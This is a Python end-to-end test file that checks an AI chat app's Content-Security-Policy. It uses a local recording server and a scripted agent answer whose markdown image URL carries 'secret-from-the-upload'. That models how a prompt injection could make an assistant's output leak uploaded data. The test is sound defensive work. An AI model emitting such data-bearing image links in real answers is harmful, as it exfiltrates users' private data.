"""The page's Content-Security-Policy, in Chromium: an image from another host is refused (a
prompt injection cannot make the browser send data there), and gradio's page still works."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import expect

from tests.e2e.harness import ScriptedApp
from tests.e2e.pages import bot, send, wait_turn_done

pytestmark = pytest.mark.e2e

# Collects what the browser refused because of the policy, from before the page's first script.
WATCH_VIOLATIONS = """
window.__violations = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.__violations.push({directive: event.effectiveDirective, uri: event.blockedURI});
});
"""


class LeakServer:
    """Another origin on loopback that records every request made to it."""

    def __init__(self):
        self.paths: list[str] = []
        paths = self.paths

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 (http.server's name)
                paths.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.end_headers()
                self.wfile.write(b"GIF89a")

            def log_message(self, *args: object) -> None:
                """Quiet: the test reads `paths`."""

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def leak() -> Iterator[LeakServer]:
    server = LeakServer()
    yield server
    server.close()


@pytest.fixture(scope="module")
def csp_app(tmp_path_factory, leak) -> Iterator[ScriptedApp]:
    app = ScriptedApp(tmp_path_factory.mktemp("csp") / "uploads", executor="local")
    # An answer a prompt injection could produce: an image whose address carries data.
    image = f"![chart]({leak.url}answer.gif?d=secret-from-the-upload)"
    app.script = lambda: [f"<code>\nfinal_answer({'Here it is. ' + image!r})\n</code>"]
    yield app.start()
    app.stop()


def test_images_from_another_host_are_refused_and_the_page_works(csp_app, leak, browser):
    context = browser.new_context()
    context.add_init_script(WATCH_VIOLATIONS)
    try:
        page = context.new_page()
        response = page.goto(csp_app.url)
        assert "img-src 'self'" in response.headers["content-security-policy"]
        send(page, "Show me the chart")
        wait_turn_done(page)
        expect(bot(page, "Here it is.")).to_be_visible()  # gradio's page runs under the policy
        # Whatever markup reaches the page, the browser itself refuses the other host.
        page.evaluate(
            "url => { const img = document.createElement('img'); img.src = url;"
            " document.body.appendChild(img); }",
            f"{leak.url}injected.gif?d=secret",
        )
        page.wait_for_function(
            "() => window.__violations.some(v => v.uri.includes('injected.gif'))"
        )
        violations = page.evaluate("window.__violations")
        assert {v["directive"] for v in violations} == {"img-src"}  # gradio trips nothing
        assert leak.paths == []
    finally:
        context.close()
